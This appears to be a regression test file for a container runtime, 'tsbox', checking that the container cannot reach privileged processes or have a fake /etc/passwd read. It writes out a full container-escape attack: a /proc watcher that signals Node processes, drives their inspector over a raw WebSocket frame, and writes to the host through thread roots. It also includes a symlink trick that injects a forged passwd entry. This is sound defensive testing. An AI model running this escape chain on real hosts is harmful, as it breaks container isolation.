/**
 * `tsbox exec` must never put a privileged process within the container's reach (issue 10,
 * findings 1 and 10). The attack, as a process of a default container would run it: watch
 * /proc for new processes, record what each one is (name, capabilities), and send SIGUSR1
 * to any that catches SIGUSR1 (a Node process: its default SIGUSR1 starts the inspector,
 * listening on 127.0.0.1:9229 in the container's network namespace). If the inspector
 * answers, ask it to evaluate JavaScript that writes a marker file on the host through the
 * root of one of the process's other threads (/proc/self/task/TID/root: threads that never
 * joined the container's mount namespace). The marker lives in a scratch directory.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { closeSync, existsSync, mkdtempSync, openSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { rootfsTar, testRoot, tsbox, TSBOX_BIN } from '../helpers/tsbox.js';

const P = `ee${process.pid}-`;
const started: string[] = [];
let scratch: string;

beforeAll(() => {
  scratch = mkdtempSync(join(inject('workDir'), 'exec-escape-'));
});

afterAll(async () => {
  if (started.length > 0) await tsbox(['rm', '-f', ...started]);
  rmSync(scratch, { recursive: true, force: true });
});

async function detached(name: string, args: string[]): Promise<string> {
  const full = `${P}${name}`;
  started.push(full);
  const r = await tsbox(['run', '-d', '--name', full, ...args]);
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  return full;
}

async function logsUntil(name: string, done: (out: string) => boolean, what: string): Promise<string> {
  for (let i = 0; i < 200; i++) {
    const out = (await tsbox(['logs', name])).stdout;
    if (done(out)) return out;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`gave up waiting for ${what}; logs:\n${(await tsbox(['logs', name])).stdout}`);
}

/** A masked WebSocket text frame, as printf octal escapes; mask bytes >= 0x80 keep every byte non-zero. */
function wsFrame(payload: string): string {
  const data = Buffer.from(payload);
  if (data.length < 256 || data.length > 65535 || (data.length & 0xff) === 0) throw new Error('payload length must keep the frame free of NUL bytes');
  const mask = [0x81, 0x82, 0x83, 0x84];
  const bytes = [0x81, 0x80 | 126, data.length >> 8, data.length & 0xff, ...mask, ...data.map((b, i) => b ^ mask[i % 4]!)];
  return bytes.map((b) => `\\${b.toString(8).padStart(3, '0')}`).join('');
}

function attacker(marker: string): string {
  const js = `const fs=process.getBuiltinModule("fs");for(const t of fs.readdirSync("/proc/self/task")){if(t===String(process.pid))continue;try{fs.writeFileSync("/proc/self/task/"+t+"/root${marker}","escaped through thread "+t);break}catch(e){}}`;
  const frame = wsFrame(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: js.padEnd(300, ' ') } }));
  // Busybox ash: every test and kill below is a builtin, so the watcher keeps up with exec's start.
  return `
seen=" 1 $$ "
attack() {
  i=0
  while [ $i -lt 100 ]; do
    id=$(wget -q -T 1 -O - http://127.0.0.1:9229/json/list 2>/dev/null | sed -n 's|.*"webSocketDebuggerUrl": *"ws://[^/]*/\\([^"]*\\)".*|\\1|p' | head -n 1)
    if [ -n "$id" ]; then
      echo "inspector $1 $id"
      { printf 'GET /%s HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n' "$id"; sleep 0.05; printf '${frame}'; sleep 1; } | nc 127.0.0.1 9229 >/dev/null 2>&1
      return
    fi
    i=$((i+1))
  done
}
while read -r k v rest; do case $k in CapEff:) echo "own $v";; esac; done < /proc/$$/status
echo ready
while true; do
  for d in /proc/[0-9]*; do
    p=\${d#/proc/}
    case "$seen" in *" $p "*) continue;; esac
    seen="$seen$p "
    # Until it exits or catches SIGUSR1: what it is (each change), and whether it is a Node to take over.
    last=
    n=0
    while [ $n -lt 200 ]; do
      # "command": a failed redirection (the process is gone) must not end the script.
      command exec 3< $d/status 2>/dev/null || break
      name=; cap=; cgt=0; threads=0
      while read -r k v rest; do
        case $k in Name:) name=$v;; CapEff:) cap=$v;; SigCgt:) cgt=$v;; Threads:) threads=$v;; esac
      done <&3
      exec 3<&-
      [ -n "$name" ] || break
      [ "$last" = "$name $cap" ] || echo "seen $p $name $cap"
      last="$name $cap"
      # Node catches SIGUSR1 once its inspector's watchdog runs; all 7 threads mean it is up.
      [ "$threads" -ge 7 ] && case "$cgt" in *[2367abefABEF]??)
        echo "usr1 $p"
        kill -USR1 $p 2>/dev/null && attack $p
        echo "done $p"
        break;;
      esac
      n=$((n+1))
    done
  done
done
`;
}

describe('tsbox exec: the container cannot reach a privileged process (issue 10, finding 1)', () => {
  it('a default container that watches /proc and sends SIGUSR1 gets no inspector and writes nothing on the host', async () => {
    const marker = join(scratch, 'marker');
    const name = await detached('usr1', [rootfsTar(), 'sh', '-c', attacker(marker)]);
    await logsUntil(name, (o) => o.includes('ready'), 'the attacker to start');
    const ownCaps = /^own ([0-9a-f]{16})$/m.exec((await tsbox(['logs', name])).stdout)![1]!;
    const execs = [];
    for (let i = 0; i < 5; i++) execs.push(await tsbox(['exec', name, 'sh', '-c', 'sleep 0.2; echo exec-ran']));
    // Wait until the attacker finished every attempt it started.
    const out = await logsUntil(name, (o) => [...o.matchAll(/^usr1 (\d+)$/gm)].every((m) => new RegExp(`^done ${m[1]}$`, 'm').test(o)), 'the attacker to finish');
    expect(existsSync(marker), `the container wrote ${marker} on the host:\n${out}`).toBe(false);
    expect(out).not.toMatch(/^inspector /m);
    // A Node that got the signal says so on the exec's stderr, even when it execs before the
    // attacker connects.
    for (const r of execs) expect(r.stderr).not.toContain('Debugger listening');
    // Every process the container could see during the execs has the container's capabilities.
    // One may still be named node: the command between posix_spawn and its execve, which
    // already has the container's credentials, filter and a non-dumpable memory.
    const seen = [...out.matchAll(/^seen (\d+) (\S+) (\S+)$/gm)].map((m) => ({ pid: m[1], name: m[2], cap: m[3] }));
    expect(seen.length, out).toBeGreaterThan(5); // the watcher saw the execs' processes
    for (const s of seen) expect(s.cap, `pid ${s.pid} (${s.name})`).toBe(ownCaps);
    // The watcher may kill a command with its SIGUSR1 (138); nothing else may go wrong.
    for (const r of execs) if (r.code !== 138) expect([r.code, r.stderr]).toEqual([0, '']);
  }, 120_000);
});

/**
 * stdin a host file (a blocking read, unlike a pipe tsbox may have made non-blocking): what a
 * followed /proc/self/fd/0 would parse, as root, as the container's user database.
 */
function evilPasswd(): string {
  const file = join(scratch, `evil-passwd-${Math.random().toString(36).slice(2)}`);
  writeFileSync(file, 'evil:x:4242:4242::/:/bin/sh\n');
  return file;
}

function withStdinFrom(file: string, argv: string[]): { code: number | null; stdout: string; stderr: string } {
  const fd = openSync(file, 'r');
  try {
    const r = spawnSync(argv[0]!, argv.slice(1), { stdio: [fd, 'pipe', 'pipe'], encoding: 'utf8', timeout: 15_000, env: { ...process.env, TSBOX_ROOT: testRoot() } });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
  } finally {
    closeSync(fd);
  }
}

describe("the container's /etc/passwd and /etc/group are read only as regular files inside it (issue 10, finding 10)", () => {
  const idle = 'echo ready; while true; do sleep 0.2; done';

  it('a FIFO at /etc/passwd: exec ends at once with one clear line (it used to hang forever)', async () => {
    const name = await detached('fifo', [rootfsTar(), 'sh', '-c', `rm /etc/passwd && mkfifo /etc/passwd && ${idle}`]);
    await logsUntil(name, (o) => o.includes('ready'), 'the container to replace /etc/passwd');
    const r = await tsbox(['exec', name, 'id'], { timeoutMs: 15_000 });
    expect(r.code).toBe(125);
    expect(r.stderr).toMatch(/^tsbox: resolve user: the container's \/etc\/passwd is not a regular file \(a FIFO\)\. /);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });

  it("a link to /proc/self/fd/0 at /etc/passwd is not followed: exec's own stdin is never read as the user database", async () => {
    const name = await detached('magic', [rootfsTar(), 'sh', '-c', `ln -sf /proc/self/fd/0 /etc/passwd && ${idle}`]);
    await logsUntil(name, (o) => o.includes('ready'), 'the container to replace /etc/passwd');
    const r = withStdinFrom(evilPasswd(), [TSBOX_BIN, 'exec', '-u', 'evil', name, 'id', '-u']);
    expect(r.stdout).not.toContain('4242');
    expect(r.code).toBe(125);
    // The exec-init has no /proc/self in the container's /proc (it is not in its PID
    // namespace): the link leads nowhere, and the user is not found.
    expect(r.stderr).toMatch(/^tsbox: resolve user: user 'evil' not found in the container's \/etc\/passwd\. /);
  });

  it("tsbox run: the same link is refused as a magic link (the init's /proc/self exists)", async () => {
    const etc = mkdtempSync(join(scratch, 'etc-'));
    symlinkSync('/proc/self/fd/0', join(etc, 'passwd'));
    const r = withStdinFrom(evilPasswd(), [TSBOX_BIN, 'run', '--rm', '-i', '-u', 'evil', '-v', `${etc}:/etc`, rootfsTar(), 'id', '-u']);
    expect(r.stdout).not.toContain('4242');
    expect(r.code).toBe(125);
    expect(r.stderr).toMatch(/^tsbox: resolve user: cannot read the container's \/etc\/passwd: it is a link that leaves the container/);
  });

  it('tsbox run reads them the same way: a FIFO mounted over /etc/group ends the run at once', async () => {
    const etc = mkdtempSync(join(scratch, 'etc-'));
    execFileSync('mkfifo', [join(etc, 'group')]);
    const r = await tsbox(['run', '--rm', '-v', `${etc}:/etc`, rootfsTar(), 'id'], { timeoutMs: 15_000 });
    expect(r.code).toBe(125);
    expect(r.stderr).toMatch(/^tsbox: resolve user: the container's \/etc\/group is not a regular file \(a FIFO\)\. /);
  });
});
